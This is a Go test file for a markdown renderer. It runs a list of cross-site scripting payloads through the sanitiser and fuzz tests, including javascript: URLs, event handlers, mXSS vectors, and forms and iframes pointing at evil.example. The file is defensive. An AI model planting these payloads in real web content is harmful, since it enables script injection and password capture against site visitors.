package markdown

import (
	"strings"
	"testing"
)

// hostile is input written to get script, foreign documents or forms onto a
// page. keep, when set, is text the reader must still see: refusing the
// attack must not eat the words around it.
var hostile = []struct {
	name, in, keep string
}{
	{"script", `<script>alert(1)</script>`, ""},
	{"script mixed case", `<ScRiPt>alert(1)</sCrIpT>`, ""},
	{"script inline", "hello <script>alert(1)</script> world", "hello"},
	{"script unclosed", "<script>alert(1)", ""},
	{"img onerror", `<img src=x onerror=alert(1)>`, ""},
	{"img onerror via markdown title", `![x](x" onerror="alert(1))`, ""},
	{"markdown javascript link", `[click](javascript:alert(1))`, "click"},
	{"markdown javascript entity colon", `[x](javascript&#58;alert(1))`, ""},
	{"markdown javascript encoded tab", `[x](jav&#x09;ascript:alert(1))`, ""},
	{"markdown javascript hex entity", `[x](&#x6A;avascript:alert(1))`, ""},
	{"markdown javascript image", `![x](javascript:alert(1))`, ""},
	{"markdown javascript autolink", `<javascript:alert(1)>`, ""},
	{"markdown javascript reference", "[x]\n\n[x]: javascript:alert(1)", ""},
	{"html javascript mixed case", `<a href="JaVaScRiPt:alert(1)">go</a>`, "go"},
	{"html javascript encoded tab", `<a href="jav&#x09;ascript:alert(1)">x</a>`, ""},
	{"html javascript newline", "<a href=\"java\nscript:alert(1)\">x</a>", ""},
	{"html javascript decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`, ""},
	{"html javascript named colon", `<a href="javascript&colon;alert(1)">x</a>`, ""},
	{"html javascript leading control", "<a href=\" \x01javascript:alert(1)\">x</a>", ""},
	{"vbscript", `<a href="vbscript:msgbox(1)">x</a>`, ""},
	{"data link", `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, ""},
	{"data image markdown", `![x](data:image/png;base64,iVBORw0KGgo=)`, ""},
	{"data image html", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, ""},
	{"style attribute", `<p style="background:url(javascript:alert(1))">text</p>`, "text"},
	{"css expression", `<div style="width: expression(alert(1))">text</div>`, "text"},
	{"style element", `<style>body{display:none}</style>`, ""},
	{"iframe", `<iframe src="https://evil.example/"></iframe>`, ""},
	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, ""},
	{"object and embed", `<object data="x.swf"></object><embed src="x.swf">`, ""},
	{"svg onload", `<svg onload=alert(1)>`, ""},
	{"svg script", `<svg><script>alert(1)</script></svg>`, ""},
	{"svg xlink", `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`, ""},
	{"math mxss", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, ""},
	{"noscript mxss", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, ""},
	{"comment breakout", `<!--><img src=x onerror=alert(1)>-->`, ""},
	{"template", `<template><script>alert(1)</script></template>`, ""},
	{"xmp", `<xmp><script>alert(1)</script></xmp>`, ""},
	{"base", `<base href="https://evil.example/">`, ""},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, ""},
	{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`, ""},
	{"form and input", `<form action="https://evil.example/"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>`, ""},
	{"textarea and select", `<textarea>x</textarea><select><option>y</option></select>`, ""},
	{"srcset", `<img src="https://ok.example/a.png" srcset="javascript:alert(1) 2x">`, ""},
	{"video source onerror", `<video><source onerror=alert(1)></video>`, ""},
	{"details ontoggle", `<details open ontoggle=alert(1)><summary>more</summary></details>`, "more"},
	{"onclick on a good link", `<a href="https://ok.example/" onclick="alert(1)">ok</a>`, "ok"},
	{"target blank", `<a href="https://ok.example/" target="_blank">ok</a>`, "ok"},
	{"unclosed img", `<img src=x onerror=alert(1)//`, ""},
	{"unclosed anchor", `<a href="javascript:alert(1)" `, ""},
	{"dangling markup", "<img src='https://evil.example/?\n\nsecret words", "secret"},
	{"markdown inside html block", "<div>\n\n[x](javascript:alert(1))\n\n</div>", ""},
	{"html inside markdown link", `[<img src=x onerror=alert(1)>](https://ok.example/)`, ""},
	{"fence language injection", "```go\" onmouseover=\"alert(1)\nx\n```", ""},
	{"h1 raw", `<h1>Owned the page title</h1>`, "Owned"},
	{"protocol relative", `[x](//evil.example/)`, ""},
	{"mailto image", `<img src="mailto:a@example.com">`, ""},
	{"close the page", "</div></dd></li></ul></body></html>\n\n<footer>fake</footer>", ""},
	{"unclosed details", "<details><summary>x</summary>\n\nthe rest of the page", "the rest"},
	{"nested list items", "<ul><li>a<li>b</li></li></li></ul>", ""},
	{"nested definitions", "<dl><dd>a<dd>b</dd></dd></dd></dl>", ""},
	{"nested tables", "<table><table><tr><td>x</td></tr></table></table></table>", ""},
	{"nested links", `<a href="/a">one <a href="/b">two</a></a></a>`, "two"},
	{"paragraph closed by block", "<p><b><i>bold <div>block</div> after</i></b></p></p>", "after"},
}

func TestHostile(t *testing.T) {
	r := New()
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			out := string(r.HTML(tt.in))
			checkSafe(t, out)
			checkContained(t, out)
			if tt.keep != "" && !strings.Contains(out, tt.keep) {
				t.Errorf("lost %q:\n%s", tt.keep, out)
			}
		})
	}
}

// FuzzHTML checks that no input, however mangled, breaks the safety rules or
// panics goldmark. Seeds are the hostile corpus; anything the fuzzer found
// worth keeping lives in testdata/fuzz/FuzzHTML.
func FuzzHTML(f *testing.F) {
	for _, tt := range hostile {
		f.Add(tt.in)
	}
	for _, tt := range features {
		f.Add(tt.in)
	}
	r := New()
	f.Fuzz(func(t *testing.T, src string) {
		if _, err := convert(r.page, clip(src)); err != nil {
			t.Fatal(err)
		}
		out := string(r.HTML(src))
		checkSafe(t, out)
		checkContained(t, out)
		_ = r.Text(src, 80)
	})
}
